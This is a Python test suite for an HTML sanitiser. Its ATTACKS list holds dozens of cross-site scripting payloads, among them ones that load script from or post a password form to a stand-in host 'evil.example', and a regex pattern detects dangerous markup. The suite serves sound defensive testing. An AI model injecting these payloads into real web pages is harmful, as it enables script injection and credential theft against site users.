"""The one sanitiser against what has worked elsewhere."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from common.html import plain_text, sanitise, sanitise_comment, text_of_sanitised

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id='comments' class='admin' name='x'>clobber</p>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<textarea></textarea><script>alert(1)</script>",
]
HARM = re.compile(
    r"<(?:script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|body|video|template|textarea)\b"
    r"|<[^>]*\s(?:on\w+|style|srcdoc|id|class|name)\s*="
    r"|(?:href|src)\s*=\s*[\"']?\s*(?!https?:|mailto:)\w+:",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack: str) -> None:
    for clean in (sanitise(attack), sanitise(attack, "https://paper.example/"), sanitise_comment(attack)):
        assert not HARM.search(clean)
    assert not re.search(r"<(?:script|img|svg|iframe)", plain_text(attack), re.IGNORECASE)


def test_it_works() -> None:
    body = '<h1>Head</h1><p>One <em>two</em> <a href="/x" title="y">three</a></p><table><tr><td colspan="2">4</td></tr></table>'
    assert sanitise(body, "https://paper.example/feed") == (
        '<h2>Head</h2><p>One <em>two</em> <a href="https://paper.example/x" title="y" rel="noopener noreferrer">three</a></p>'
        '<table><tbody><tr><td colspan="2">4</td></tr></tbody></table>'
    )


def test_pictures_are_asked_for_encrypted_or_not_at_all() -> None:
    assert sanitise("<p><img src='http://a.example/x.jpg' alt='Eel' onclick=x></p>") == (
        '<p><img src="https://a.example/x.jpg" alt="Eel"></p>'
    )
    assert sanitise("<p>A<img src='/x.jpg'></p>") == "<p>A</p>"


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("Profits &amp; losses", "Profits & losses"),
        ("&amp;lt;b&amp;gt;Bold&amp;lt;/b&amp;gt;", "Bold"),
        ("AT&amp;amp;amp;T", "AT&T"),
        ("Growth < 5 % &gt; 3 %", "Growth < 5 % > 3 %"),
        ("<p>One</p><p>Two</p>", "One Two"),
        ("A<script>alert(1)</script>B", "AB"),
        ("<![CDATA[Eel]]>", "Eel"),
        ("Tom & Jerry", "Tom & Jerry"),
        ("a\x00b\ud800c", "abc"),
    ],
)
def test_plain_text(html: str, words: str) -> None:
    assert plain_text(html) == words


def test_depth_is_bounded() -> None:
    assert sanitise("<div>" * 1_000_000) == ""
    assert plain_text("<b>" * 1_000_000) == ""


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from([*ATTACKS, "<", ">", "&", '"', "'", "<p>", "</", "x"]), max_size=6))
def test_no_mixture_survives(parts: list[str]) -> None:
    clean = sanitise("".join(parts))
    assert not HARM.search(clean)
    assert sanitise(clean) == clean


PIECES = [
    "<p>", "</p>", "<br>", "<div dir='rtl'>", "<a href='https://a.example/?b=1&c=<d>' title='x>y\"z'>", "</a>", "<img src='/a.png' alt='a > b'>",
    "<ul><li>", "</li></ul>", "<h1>", "</h1>", "<em>", "word", " ", "\n", "5 < 6 > 4", "&lt;b&gt;", "&amp;lt;script&amp;gt;", "&nbsp;", "&copy", "AT&T",
    "<script>x</script>", "<![CDATA[y]]>", "<!-- z -->", "]]>", "<svg><title>t</title></svg>", "<table><tr><td>1<td>2</table>", "<plaintext",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_words_of_what_is_clean_need_no_second_look(html: str) -> None:
    clean = sanitise(html, "https://wire.example/")

    assert text_of_sanitised(clean) == plain_text(clean)


@given(st.text(st.sampled_from("ab <>&;#x3\x00\x07\u2028\ufdd0\ud800\n]"), max_size=20))
def test_words_without_markup_are_told_at_once_and_alike(text: str) -> None:
    assert plain_text(text) == plain_text("\x07" + text)  # a character to be taken out: not told at once


def test_attributes_that_are_looked_into_are_found_in_any_spelling() -> None:
    assert sanitise('<image src="http://a.example/b.png">') == '<img src="https://a.example/b.png">'
    assert sanitise('<i\x00mg SRC="http://a.example/b.png">') == '<img src="https://a.example/b.png">'
    assert sanitise('<ol\nSTART="x"><li>a</ol>') == "<ol><li>a</li></ol>"
    assert sanitise('<table><td COLSPAN="9e9">a</table>') == sanitise("<table><td>a</table>")
